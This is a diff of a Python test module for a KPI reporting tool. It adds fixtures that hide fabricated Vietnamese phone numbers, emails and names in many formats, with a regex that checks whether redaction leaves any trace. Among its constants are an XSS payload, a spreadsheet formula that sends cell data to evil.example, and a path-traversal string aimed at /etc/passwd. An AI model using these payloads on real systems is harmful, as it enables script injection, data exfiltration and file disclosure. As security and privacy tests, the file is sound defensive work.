@@ -1,8 +1,11 @@
 """A desk whose texts try everything at once, its pages made without a kernel, and the persons that must not show."""
 
 import os
+import re
+from dataclasses import replace
 from functools import cache
 from pathlib import Path
+from unicodedata import normalize
 from unittest.mock import patch
 
 import nbformat
@@ -11,12 +14,14 @@ import pandas as pd
 from kpitools import cards, plots, views
 from kpitools.compute import compute
 from kpitools.desk import Desk
+from kpitools.kpi import Words
 from kpitools.kpis import get
 from kpitools.report import site
 from kpitools.report.mail import Mail
 from kpitools.report.plan import Page, Plan
 from kpitools.report.runner import Outcome
 from kpitools.scorecard import scorecard
+from kpitools.settings import Settings
 
 SCRIPT = "<script>window.hit=1</script><img src=x onerror=window.hit=2><svg onload=window.hit=3></svg>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -24,6 +29,56 @@ PATH = "../../etc/passwd"
 AGENT, CUSTOMER = "Lan Nguyễn", "Trần Văn Bình"
 PERSONS = ("Lan Nguyễn", "Trần Văn Bình", "lan@shop.vn", "binh.tran@mail.example", "0912345678", "091 234 56 78")
 WEEKS = 26
+# What reaches a person, in forty ways of writing it; behind each stands what must not be left of it.
+PHONES = (
+    *(
+        "SĐT:0912345678",
+        "tel:0912345678",
+        "zalo 0912345678",
+        "0912 345 678",
+        "0912.345.678",
+        "0912-345-678",
+        "0912 345678",
+    ),
+    *("0 912 345 678", "84912345678", "84 912 345 678", "+84912345678", "+84 912 345 678", "+84.912.345.678"),
+    *("(+84) 912 345 678", "+84 (0) 912 345 678", "0084912345678", "0912345678: gọi lại", "0912345678/0987654321"),
+    *(
+        "0912345678 0987654321",
+        "(0912) 345 678",
+        "０９１２３４５６７８",
+        "＋８４ ９１２ ３４５ ６７８",
+        "0912\N{EN DASH}345\N{EN DASH}678",
+    ),
+    *("0912\N{NO-BREAK SPACE}345\N{NO-BREAK SPACE}678", "0912\N{ZERO WIDTH SPACE}345678"),
+)
+MAILS = (
+    *("le.tu@shop.vn", "le.tu@localhost", "le.tu%40shop.vn", "le.tu[at]shop.vn", "le.tu (at) shop (dot) vn"),
+    *("le.tu＠shop.vn", "LE.TU@SHOP.VN", "<le.tu@shop.vn>", "mailto:le.tu@shop.vn"),
+)
+NAMES = ("Lê Cẩm Tú", "lê cẩm tú", "LÊ CẨM TÚ", "Lê  Cẩm  Tú", normalize("NFD", "Lê Cẩm Tú"), "Le Cam Tu")
+PLANTED = (*PHONES, *MAILS, *NAMES)
+LEFT = re.compile(r"\D9\W*1\W*2\W*3\W*4\W*5\W*6\W*7\W*8|987654321|le\.tu|l[êe]\s+c[ẩa]m\s+t[úu]", re.IGNORECASE)
+
+
+def left_of(text: str) -> set[str]:
+    """What of the planted persons is in a text."""
+    bare = re.sub("[\u200b\u00ad]", "", normalize("NFKC", f" {text}"))
+    return {found[0] for found in LEFT.finditer(re.sub(r"84(?=9)|84\D{1,5}0?(?=9)|0(?=9)", " ", bare))}
+
+
+def planted(**settings) -> Desk:
+    """A desk that holds all of them: in topics, teams, its name, titles of its own KPIs and what was done."""
+    rows = desk().base("tickets").to_pandas()
+    topics = [PLANTED[i % len(PLANTED)] for i in range(len(rows))]
+    rows = rows.assign(topic=topics, team=[f"Đội {text}" for text in topics], channel=topics, agent_id=NAMES[0])
+    records = {
+        f"own_{place}": replace(get("ticket_volume"), name=f"own_{place}", title=Words(f"{text} a", f"{text} b"))
+        for place, text in enumerate(PLANTED)
+    }
+    done = pd.DataFrame({"on": ["2025-04-01"] * len(PLANTED), "kpi": None, "what": PLANTED})
+    given = {"timezone": "UTC", "as_of": rows.created_at.max().to_pydatetime(), "interventions": done}
+    given["name"] = " | ".join(PLANTED)
+    return Desk.from_frames({"tickets": rows}, settings=Settings(kpis=records), **(given | settings))
 
 
 def desk(**settings) -> Desk:
